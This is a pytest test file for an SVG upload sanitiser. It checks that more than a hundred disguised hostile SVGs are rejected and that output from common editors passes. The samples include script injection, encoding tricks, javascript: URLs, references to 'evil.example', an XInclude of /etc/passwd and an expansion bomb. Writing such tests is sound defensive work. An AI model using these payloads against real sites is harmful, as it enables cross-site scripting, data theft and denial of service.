"""What an SVG must not have to be published, in many disguises; and what exporters write, which is harmless."""

import time
from xml.sax.saxutils import quoteattr

import pytest

from gazeta.sources.pictures.probe import ImageFacts, probe

OPEN = '<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="9" height="9"'
XHTML = 'xmlns:h="http://www.w3.org/1999/xhtml"'


def within(inside: str, attributes: str = "") -> bytes:
    return f"{OPEN} {attributes}>{inside}</svg>".encode()


def declared(encoding: str, inside: str) -> bytes:
    return f'<?xml version="1.0" encoding="{encoding}"?>'.encode() + within(inside)


def css(text: str) -> bytes:
    return within(f"<style>{text}</style>")


HOSTILE = {
    # read as one thing by us, as another by a browser
    "ISO-2022-JP": declared("ISO-2022-JP", "<scr\x1b(Bipt>1</scr\x1b(Bipt>"),
    "UTF-7": declared("UTF-7", "+ADw-script+AD4-1+ADw-/script+AD4-"),
    "UTF-16 as it says": declared("UTF-16", "<g/>"),
    "UTF-16": within("<script/>").decode().encode("utf-16"),
    "UTF-32": within("<script/>").decode().encode("utf-32"),
    "EBCDIC": declared("IBM037", "<g/>"),
    "Shift_JIS": declared("Shift_JIS", "<g/>"),
    "HZ-GB-2312": declared("HZ-GB-2312", "~{<script>~}"),
    "Latin-1 as it says": declared("ISO-8859-1", "<g/>"),
    "Latin-1": within("<title>caf\xe9</title>").decode().encode("latin-1"),
    "x-user-defined": declared("x-user-defined", "<g/>"),
    "a spaced declaration": declared(" utf-8", "<g/>"),
    "an escape in a text": within("<title>\x1b$B</title>"),
    "a NUL": within("<title>\0</title>"),
    "a C1 control": within("<title>\x9b</title>"),
    "a backspace in a name": within("<scri\x08pt/>"),
    # scripts
    "script": within("<script>1</script>"),
    "script, empty": within('<script href="data:text/javascript,1"/>'),
    "script in capitals": within("<SCRIPT>1</SCRIPT>"),
    "script by a prefix": b'<x:svg xmlns:x="http://www.w3.org/2000/svg" width="9" height="9"><x:script/></x:svg>',
    "script by a prefix beyond ASCII": within("<é:script/>", 'xmlns:é="http://www.w3.org/2000/svg"'),
    "script by a namespace with references": within("<s:script/>", 'xmlns:s="http://www.w3.org/2000/sv&#103;"'),
    "script within metadata": within(f'<metadata><d:x xmlns:d="urn:d">{OPEN}><script/></svg></d:x></metadata>'),
    "script below an element of an editor's": within('<i:page xmlns:i="urn:i"><script/></i:page>'),
    "script in a namespace of its own": within('<script xmlns="http://www.w3.org/1999/xhtml">1</script>'),
    "handler": within('<handler type="text/javascript">1</handler>'),
    "listener": within('<l:listener xmlns:l="http://www.w3.org/2001/xml-events" event="load"/>'),
    "an XML event": within('<g v:event="load"/>', 'xmlns:v="http://www.w3.org/2001/xml-events"'),
    "onload": within("<g/>", 'onload="1"'),
    "onload over lines": within("<g/>", 'onload\n=\n"1"'),
    "onbegin": within('<animate attributeName="x" onbegin="1"/>'),
    "onclick in capitals": within('<g ONCLICK="1"/>'),
    "an event nobody knows": within('<g onfuture="1"/>'),
    "onload without a space": within('<g x="1"onload="1"/>'),
    "javascript:": within('<a xlink:href="javascript:1"><text>x</text></a>'),
    "javascript: with references": within('<a href="java&#10;script&#58;1"/>'),
    "javascript: with spaces": within('<a href=" &#9;jAvAsCrIpT:1"/>'),
    "vbscript:": within('<a href="vbscript:1"/>'),
    "a data: page": within('<a href="data:text/html,x"/>'),
    "javascript: by a prefix": within('<a q:href="javascript:1"/>', 'xmlns:q="http://www.w3.org/1999/xlink"'),
    "an undeclared prefix": within('<a q:href="javascript:1"/>'),
    # animations that set what must not be
    "set onload": within('<set attributeName="onload" to="1"/>'),
    "animate href": within('<a><animate attributeName="href" values="javascript:1"/></a>'),
    "animate xlink:href": within('<a><animate attributeName="xlink:href" to="x"/></a>'),
    "animate a spaced href": within('<a><set attributeName=" href " to="x"/></a>'),
    "animate style": within('<set attributeName="style" to="x"/>'),
    # HTML and other languages
    "foreignObject": within("<foreignObject><g/></foreignObject>"),
    "foreignObject of another prefix": within('<s:foreignObject xmlns:s="http://www.w3.org/2000/svg"/>'),
    "iframe": within(f'<h:iframe srcdoc="&lt;script&gt;" {XHTML}/>'),
    "iframe by a default namespace": within('<iframe xmlns="http://www.w3.org/1999/xhtml" src="x"/>'),
    "meta refresh": within(f'<h:meta http-equiv="refresh" content="0;//evil.example" {XHTML}/>'),
    "form": within(f'<h:form action="//evil.example" {XHTML}><h:input name="p"/></h:form>'),
    "object": within(f'<h:object data="//evil.example" {XHTML}/>'),
    "link": within(f'<h:link rel="stylesheet" href="//evil.example" {XHTML}/>'),
    "base": within(f'<h:base href="//evil.example/" {XHTML}/>'),
    "HTML within metadata": within(f'<metadata><h:img src="x" {XHTML}/></metadata>'),
    "MathML": within('<m:math xmlns:m="http://www.w3.org/1998/Math/MathML" href="javascript:1"/>'),
    "XInclude": within('<x:include xmlns:x="http://www.w3.org/2001/XInclude" href="/etc/passwd"/>'),
    "XSLT": within('<x:stylesheet xmlns:x="http://www.w3.org/1999/XSL/Transform"/>'),
    "XUL": within('<x:box xmlns:x="http://www.mozilla.org/keymaster/gatekeeper/there.is.only.xul"/>'),
    "audio": within('<audio src="//evil.example/x"/>'),
    "video": within('<video src="//evil.example/x"/>'),
    "iframe as if it were SVG's": within('<iframe src="//evil.example"/>'),
    "an attribute nobody knows": within('<g formaction="x"/>'),
    "src": within('<image src="//evil.example/x.png"/>'),
    # other files
    "use of another file": within('<use href="https://evil.example/x.svg#a"/>'),
    "use of a neighbour": within('<use xlink:href="x.svg#a"/>'),
    "use of a data: address": within('<use href="data:image/svg+xml;base64,AAAA#a"/>'),
    "image from elsewhere": within('<image href="//evil.example/x.png"/>'),
    "image of a neighbour": within('<image xlink:href="photo.png"/>'),
    "image that is an SVG": within('<image href="data:image/svg+xml,x"/>'),
    "image with references": within('<image href="&#104;ttps://evil.example/x.png"/>'),
    "feImage": within('<filter><feImage xlink:href="//evil.example/x"/></filter>'),
    "a gradient elsewhere": within('<linearGradient href="//evil.example/x#a"/>'),
    "textPath": within('<textPath href="//evil.example/x#a"/>'),
    "mpath": within('<animateMotion><mpath xlink:href="//evil.example/x#a"/></animateMotion>'),
    "font-face-uri": within('<font-face-uri xlink:href="//evil.example/x"/>'),
    "cursor": within('<cursor xlink:href="//evil.example/x"/>'),
    "color-profile": within('<color-profile xlink:href="//evil.example/x"/>'),
    "xml:base": within('<use href="#x"/>', 'xml:base="//evil.example/"'),
    "a style sheet": b'<?xml-stylesheet href="x.css"?>' + within("<g/>"),
    "a style sheet after the root": within("<g/>") + b'<?xml-stylesheet href="x.css"?>',
    "a processing instruction": within("<?php echo 1 ?>"),
    # CSS
    "fill from elsewhere": within('<g fill="url(https://evil.example/x#a)"/>'),
    "fill in quotes": within('<g fill="url(&#34;//evil.example&#34;)"/>'),
    "fill with an escape": within(r'<g fill="u\72l(//evil.example)"/>'),
    "style from elsewhere": within('<g style="filter:url( //evil.example/x#f )"/>'),
    "mask from elsewhere": within('<g mask="url(x.svg#m)"/>'),
    "cursor from elsewhere": within('<g cursor="url(//evil.example/x), auto"/>'),
    "@import": css('@import "//evil.example/x.css";'),
    "@import with an escape": css(r'@\69mport "//evil.example/x.css";'),
    "@import with a long escape": css(r'@\000069 mport "//evil.example/x.css";'),
    "@import with a letter escaped": css(r'@\import "//evil.example/x.css";'),
    "@import in capitals": css('@IMPORT "//evil.example/x.css";'),
    "@import in CDATA": css('<![CDATA[@import "//evil.example/x.css";]]>'),
    "@import cut by a comment of XML": css('@im<!-- x -->port "//evil.example/x.css";'),
    "@import with references": css("@&#105;mport '//evil.example/x.css';"),
    "@import behind an element": css("<g/>@import '//evil.example/x.css';"),
    "url": css("*{background:url(//evil.example/x)}"),
    "url with an escape": css(r"*{background:u\72l(//evil.example/x)}"),
    "url in capitals": css("*{background:URL('//evil.example/x')}"),
    "url after a comment": css("*{background:/* url(#a) */url(//evil.example/x)}"),
    "url of a neighbour": css("*{background:url(x.png)}"),
    "url of an SVG": css("*{background:url(data:image/svg+xml,x)}"),
    "image-set": css('*{background:image-set("//evil.example/x.png" 1x)}'),
    "-webkit-image-set": css('*{background:-webkit-image-set("//evil.example/x.png" 1x)}'),
    "image()": css('*{background:image("//evil.example/x.png")}'),
    "src()": css('@font-face{src:src("//evil.example/x")}'),
    "a font from elsewhere": css("@font-face{font-family:x;src:url(//evil.example/x.woff2)}"),
    "-moz-binding": css("*{-moz-binding:url(#x)}"),
    "expression": css("*{width:expression(1)}"),
    # entities and weight
    "an entity": b'<!DOCTYPE svg [<!ENTITY x "y">]>' + within("&x;"),
    "a parameter entity": b'<!DOCTYPE svg [<!ENTITY % x SYSTEM "//evil.example">%x;]>' + within("<g/>"),
    "an attribute's default": b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "1">]>' + within("<g/>"),
    "a document type elsewhere": b'<!DOCTYPE svg SYSTEM "//evil.example/x.dtd">' + within("<g/>"),
    "XHTML's document type": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "x">' + within("<g/>"),
    "an entity nobody knows": b'<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "x">' + within("<g fill='&x;'/>"),
    "elements within elements": within("<g>" * 5_000 + "</g>" * 5_000),
    "a million repetitions": within(
        '<g id="a0"/>'
        + "".join(f'<g id="a{n + 1}">' + f'<use href="#a{n}"/>' * 10 + "</g>" for n in range(9))
        + '<use href="#a9"/>'
    ),
    # no SVG
    "broken": within("<g>"),
    "two roots": within("<g/>") + within("<g/>"),
    "HTML with an SVG in it": b"<html>" + within("<g/>") + b"</html>",
    "something after it": within("<g/>") + b"<script>1</script>",
    "SVG of another namespace": b'<svg xmlns="http://www.w3.org/1999/xhtml" width="9" height="9"/>',
    "nothing of it": b"just words",
}


def test_there_are_enough_of_them() -> None:
    assert len(HOSTILE) >= 60
    assert len(HARMLESS) >= 15


@pytest.mark.parametrize("data", [pytest.param(data, id=name) for name, data in HOSTILE.items()])
def test_hostile(data: bytes) -> None:
    facts = probe(data, ".svg")
    assert facts.fault
    assert facts == ImageFacts(fault=facts.fault, harmful=True)


DOCTYPE = '<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'
RDF = (
    '<rdf:RDF xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:cc="http://creativecommons.org/ns#" '
    'xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><cc:Work rdf:about=""><dc:date>2026</dc:date>'
    '<dc:type rdf:resource="http://purl.org/dc/dcmitype/StillImage"/><dc:format>image/svg+xml</dc:format>'
    "</cc:Work></rdf:RDF>"
)

HARMLESS = {
    "Inkscape": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n<!-- Created with Inkscape -->\n' + OPEN
    + ' xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" inkscape:version="1.3"'
    ' xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd" sodipodi:docname="map.svg">'
    '<sodipodi:namedview id="v" pagecolor="#fff" inkscape:zoom="2"><inkscape:grid type="xygrid"/>'
    f"</sodipodi:namedview><metadata>{RDF}</metadata>"
    '<g inkscape:groupmode="layer" inkscape:label="Layer 1" id="l"><path sodipodi:nodetypes="cc" d="M0 0h9"'
    ' style="fill:none;stroke:#000;-inkscape-font-specification:\'Sans, Normal\';marker-end:url(#Arrow1Lend)"/>'
    '<flowRoot xml:space="preserve"><flowRegion><rect width="5" height="5"/></flowRegion><flowPara>x</flowPara>'
    "</flowRoot></g></svg>",
    "Illustrator": '<?xml version="1.0" encoding="utf-8"?>\n<!-- Generator: Adobe Illustrator 27.0 -->\n'
    + DOCTYPE + OPEN + ' version="1.1" id="Layer_1" x="0px" y="0px" viewBox="0 0 9 9"'
    ' style="enable-background:new 0 0 9 9;" xml:space="preserve">'
    '<style type="text/css">.st0{fill:#E30613;}\n\t.st1{clip-path:url(#SVGID_2_);}</style>'
    '<switch><g i:extraneous="self" xmlns:i="http://ns.adobe.com/AdobeIllustrator/10.0/"><path class="st0" d="M0 0"/>'
    "</g></switch></svg>",
    "Illustrator's metadata": OPEN + '><metadata><?xpacket begin="x" id="W5M0MpCehiHzreSzNTczkc9d"?>'
    '<x:xmpmeta xmlns:x="adobe:ns:meta/" x:xmptk="Adobe XMP Core">' + RDF + '</x:xmpmeta><?xpacket end="w"?>'
    "</metadata></svg>",
    "Figma": '<svg width="24" height="24" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg">'
    '<g clip-path="url(#clip0_1_2)" filter="url(#filter0_d)"><mask id="m" style="mask-type:alpha"'
    ' maskUnits="userSpaceOnUse" x="0" y="0" width="24" height="24"><rect width="24" height="24" fill="#D9D9D9"/>'
    '</mask><rect width="24" height="24" fill="url(#pattern0)" style="mix-blend-mode:multiply"/></g><defs>'
    '<pattern id="pattern0" patternContentUnits="objectBoundingBox" width="1" height="1">'
    '<use xlink:href="#image0" transform="scale(0.01)"/></pattern><filter id="filter0_d"'
    ' color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="b"/><feColorMatrix in="SourceAlpha"'
    ' type="matrix" values="0 0 0 0 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/>'
    '<feBlend mode="normal" in2="b"/></filter><image id="image0" width="9" height="9"'
    ' xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="data:image/png;base64,iVBORw0KGgo="/></defs></svg>',
    "matplotlib": '<?xml version="1.0" encoding="utf-8" standalone="no"?>\n' + DOCTYPE + OPEN
    + f' version="1.1"><metadata>{RDF}</metadata><defs><style type="text/css">*'
    "{stroke-linejoin: round; stroke-linecap: butt}</style></defs>"
    '<g id="figure_1"><g id="text_1"><!-- a & b --><g transform="translate(1 2) scale(0.1 -0.1)"><defs>'
    '<path id="DejaVuSans-41" d="M 1 2 Q 3 4 5 6 z" transform="scale(0.015625)"/></defs>'
    '<use xlink:href="#DejaVuSans-41" x="1.5"/></g></g><path clip-path="url(#p0)" style="fill: none"/></g></svg>',
    "Graphviz": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>\n' + DOCTYPE + OPEN
    + ' viewBox="0.00 0.00 62.00 116.00"><g id="graph0" class="graph" transform="scale(1 1)">'
    '<title>%3</title><polygon fill="white" stroke="transparent" points="-4,4 -4,-112 58,-112"/>'
    '<text text-anchor="middle" font-family="Times,serif" font-size="14.00">a</text></g></svg>',
    "LibreOffice": OPEN + ' xmlns:ooo="http://xml.openoffice.org/svg/export" preserveAspectRatio="xMidYMid"'
    ' stroke-width="28.222" stroke-linejoin="round"><defs class="EmbeddedBulletChars"><g id="b"'
    ' transform="scale(0.0004,-0.0004)"/></defs><g ooo:slide="id1" class="SlideGroup"><tspan class="TextPosition"'
    ' x="1" y="2">x</tspan></g></svg>',
    "Sketch": OPEN + ' xmlns:sketch="http://www.bohemiancoding.com/sketch/ns"><title>Icon</title>'
    '<desc>Created with Sketch.</desc><g id="Page-1" stroke="none" sketch:type="MSPage"><path'
    ' sketch:type="MSShapeGroup" d="M0 0"/></g></svg>',
    "Affinity": '<?xml version="1.0" encoding="UTF-8" standalone="no"?>' + DOCTYPE + OPEN
    + ' xmlns:serif="http://www.serif.com/" style="fill-rule:evenodd;clip-rule:evenodd"><g serif:id="Layer"'
    ' transform="matrix(1,0,0,1,0,0)"><path d="M0 0"/></g></svg>',
    "Visio": OPEN + ' xmlns:v="http://schemas.microsoft.com/visio/2003/SVGExtensions/" color-interpolation-filters='
    '"sRGB" xmlns:ev="http://www.w3.org/2001/xml-events"><v:documentProperties v:langID="1033"/>'
    '<g v:mID="0" v:index="1" v:groupContext="foregroundPage"><path d="M0 0" class="st1"/></g></svg>',
    "Font Awesome": '<svg aria-hidden="true" focusable="false" data-prefix="fas" data-icon="ad" role="img"'
    ' xmlns="http://www.w3.org/2000/svg" viewBox="0 0 512 512"><path fill="currentColor" d="M0 0"/></svg>',
    "iconfont": '<svg t="1600000000000" class="icon" viewBox="0 0 1024 1024" version="1.1"'
    ' xmlns="http://www.w3.org/2000/svg" p-id="2025" width="200" height="200"><path d="M0 0" p-id="2026"/></svg>',
    "a chart with fonts": OPEN + '><style>@font-face{font-family:"N";src:url("data:font/woff2;base64,d09GMg==")'
    ' format("woff2"),local("Noto")}\n@media (prefers-color-scheme: dark){.a{fill:#fff}}\ntext{font:9px "N"}'
    r' .b::after{content:"\201C"}</style><text class="a">x</text></svg>',
    "an animation": OPEN + '><circle r="2"><animate attributeName="r" values="1;3;1" dur="2s"'
    ' repeatCount="indefinite"/><animateTransform attributeName="transform" type="rotate" from="0" to="360"'
    ' begin="0s;x.end"/><set attributeName="fill" to="url(#g)"/></circle>'
    '<linearGradient id="g" gradientUnits="userSpaceOnUse" x1="0"><stop offset="5%" stop-color="#f00"/>'
    "</linearGradient></svg>",
    "D3": OPEN + ' font-family="sans-serif" text-anchor="middle"><g fill="none" aria-label="x-axis"'
    ' transform="translate(0,370)"><g class="tick" opacity="1"><line stroke="currentColor" y2="6"/>'
    '<text fill="currentColor" y="9" dy="0.71em">0</text></g></g><a xlink:href="#t"><title>x: 1</title></a></svg>',
    "Boxy, Vectornator, svg.js": OPEN + ' xmlns:bx="https://boxy-svg.com" xmlns:vectornator="http://vectornator.io"'
    ' xmlns:svgjs="http://svgjs.com/svgjs" vectornator:layers="x"><bx:grid x="0"/><g svgjs:data="{}"/></svg>',
    "texts in many scripts": OPEN + ' xml:lang="ar" direction="rtl"><title>خريطة النهر</title><text>河 река &amp; नदी'
    " javascript: is a word here, url(x) too</text><desc>@import nothing</desc></svg>",
    "without a namespace": '<svg width="9" height="9"><path d="M0 0"/></svg>',
}  # fmt: skip


@pytest.mark.parametrize("text", [pytest.param(text, id=name) for name, text in HARMLESS.items()])
def test_harmless(text: str) -> None:
    facts = probe(text.encode(), ".svg")
    assert facts.fault == ""
    assert facts.width > 0


def test_what_is_wrong_is_named() -> None:
    assert "“SCRIPT”" not in probe(HOSTILE["script in capitals"], ".svg").fault
    assert "it has a script" in probe(HOSTILE["script in capitals"], ".svg").fault
    assert "“ISO-2022-JP”" in probe(declared("ISO-2022-JP", "<g/>"), ".svg").fault
    assert "“formaction”" in probe(HOSTILE["an attribute nobody knows"], ".svg").fault
    assert "line 1" in probe(HOSTILE["broken"], ".svg").fault


@pytest.mark.parametrize(
    "piece",
    [
        "<g>", "<g/>", "<use href='#a'/>", "<style>", "@import", "url(", "\\72", "/*", "/* ", "/* */", "url ", "@ ", "&#106;", "]]>", "<!--",
        '<g id="a"><use href="#a"/></g>', "<g xmlns:a='b'>", "<a:b/>", "<![CDATA[", "javascript:", "<?xpacket?>",
    ],
)  # fmt: skip
@pytest.mark.parametrize("wrap", ["<g>{}</g>", "<style>{}</style>", "<g style={}/>", "{}"])
def test_each_pattern_takes_linear_time(piece: str, wrap: str) -> None:
    def seconds(size: int) -> float:
        inside = (piece * size)[:size]
        data = within(wrap.format(quoteattr(inside) if "=" in wrap else inside))
        begun = time.process_time()
        for _ in range(3):
            probe(data, ".svg")
        return time.process_time() - begun

    small, large = seconds(64_000), seconds(256_000)
    assert large < 16 * max(small, 0.01), (small, large)
